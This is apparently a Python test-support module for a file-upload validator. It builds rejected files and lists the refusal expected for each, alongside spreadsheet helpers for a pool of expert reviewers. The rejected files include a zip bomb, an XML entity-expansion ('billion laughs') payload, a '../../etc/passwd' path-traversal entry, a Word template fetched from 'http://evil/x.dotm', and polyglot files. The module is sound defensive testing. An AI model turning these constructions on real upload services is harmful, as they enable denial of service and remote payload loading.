"""Files that are not what they say, or more than they say."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from openpyxl import Workbook

from tests.support.cases.pictures import pdf

CONTENT = ("[Content_Types].xml", "<Types/>")
DOCUMENT = ("word/document.xml", "<w:document/>")
BOOK = ("xl/workbook.xml", "<workbook/>")


def archive(*parts: tuple[str, str | bytes]) -> bytes:
    """A zip of (name, content) pairs."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts:
            made.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def docx(*parts: tuple[str, str | bytes]) -> bytes:
    """A Word document with these parts beside the usual ones."""
    return archive(CONTENT, DOCUMENT, *parts)


def png(width: int, height: int) -> bytes:
    """The head of a picture of that size."""
    head = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + head + struct.pack(">I", zlib.crc32(head))


def jpeg(width: int, height: int) -> bytes:
    """The head of a photograph of that size, after a comment and a fill byte."""
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8\xff\xe0" + struct.pack(">H", 4) + b"xx" + b"\xff\xff\xfe" + struct.pack(">H", 3) + b"c" + frame


def swelling() -> bytes:
    """A hundred and sixty megabytes of zeros in less than two hundred kilobytes."""
    return docx(("word/media/zeros.bin", bytes(160 * 1024 * 1024)))


def lying() -> bytes:
    """A part that is longer than the directory says."""
    good = docx(("word/extra.xml", "x" * 5000))
    return good.replace(struct.pack("<I", 5000), struct.pack("<I", 50))


def encrypted() -> bytes:
    """The flag of encryption set on every part."""
    made = bytearray(docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = made.find(mark)
        while place >= 0:
            made[place + offset] |= 1
            place = made.find(mark, place + 4)
    return bytes(made)


LAUGHS = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'
TEMPLATE = '<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
HYPERLINK = '<Relationship Id="r1" Type="http://x/hyperlink" Target="http://example.cn/" TargetMode="External"/>'
BAD = {
    "swells": (swelling, "file_swells"),
    "lies about its size": (lying, "file_broken"),
    "is encrypted": (encrypted, "file_broken"),
    "has macros": (lambda: docx(("word/vbaProject.bin", b"x")), "file_has_programs"),
    "has controls": (lambda: docx(("word/activeX/activeX1.bin", b"x")), "file_has_programs"),
    "fetches its template": (lambda: docx(("word/_rels/settings.xml.rels", TEMPLATE)), "file_has_programs"),
    "laughs a billion times": (lambda: docx(("word/styles.xml", LAUGHS)), "file_has_programs"),
    "laughs in UTF-16": (lambda: docx(("word/styles.xml", LAUGHS.encode("utf-16"))), "file_has_programs"),
    "climbs out": (lambda: docx(("../../etc/passwd", "x")), "file_broken"),
    "has a part twice": (lambda: docx(("Word/Document.XML", "x")), "file_broken"),
    "is a PDF too": (lambda: archive(("%PDF-1.7", "x"), CONTENT, DOCUMENT), "file_broken"),
    "links to other workbooks": (
        lambda: archive(CONTENT, BOOK, ("xl/externalLinks/externalLink1.xml", "x")), "file_has_programs",
    ),
    "is a PDF and an archive": (lambda: b"%PDF-1.7\n" + docx(), "file_broken"),
    "is a picture and an archive": (lambda: png(10, 10) + docx(), "file_broken"),
    "is a PDF and a picture": (lambda: png(10, 10) + b"%PDF-1.7\n", "file_broken"),
    "is a PDF that asks for a password": (lambda: pdf(user="x"), "pdf_encrypted"),
    "is a PDF without pages": (lambda: pdf(pages=0), "pdf_empty"),
    "is the head of a PDF": (lambda: b"%PDF-1.7\n%%EOF", "pdf_empty"),
    "is a picture of fifty thousand pixels": (lambda: png(50_000, 50_000), "picture_too_large"),
    "is a long thin picture": (lambda: png(1, 2**31), "picture_too_large"),
    "is a huge photograph": (lambda: jpeg(60_000, 60_000), "picture_too_large"),
    "is a picture without a head": (lambda: b"\x89PNG\r\n\x1a\n" + b"0" * 50, "file_broken"),
    "is a photograph without a frame": (lambda: b"\xff\xd8\xff\xe0" + b"\x00" * 50, "file_broken"),
}  # fmt: skip
"""What is the matter with a file -> (how to make it, the slug of the refusal)."""
GOOD = {
    "a document with a link": lambda: docx(("word/_rels/document.xml.rels", HYPERLINK)),
    "a picture": lambda: png(4000, 3000),
    "a photograph": lambda: jpeg(6000, 4000),
    "a PDF that is locked against changes": lambda: pdf(user="", owner="x"),
    "a PDF behind a mark": lambda: b"\xef\xbb\xbf" + pdf(),
    "a PDF": pdf,
}
HEADER = (
    "编号", "姓名", "性别", "工作单位", "单位性质", "专业", "系列", "职称层级", "手机", "账号",
    "连续参评年数", "上年是否参评", "是否外单位同行",
)  # fmt: skip
EXPERT = (
    "E001",
    "专家",
    "女",
    "学校",
    "事业单位",
    "小学语文",
    "中小学教师系列",
    "副高级",
    "13900000001",
    "",
    0,
    "否",
    "是",
)


def workbook(*rows: tuple[object, ...], header: tuple[object, ...] = HEADER) -> Workbook:
    """A pool with these rows."""
    book = Workbook()
    for row in (header, *rows):
        book.active.append(list(row))
    return book


def saved(book: Workbook) -> bytes:
    """Its bytes."""
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def expert(number: str, **cells: object) -> tuple[object, ...]:
    """A good row with changes by column name."""
    row = dict(zip(HEADER, EXPERT, strict=True)) | {"编号": number} | cells
    return tuple(row[name] for name in HEADER)
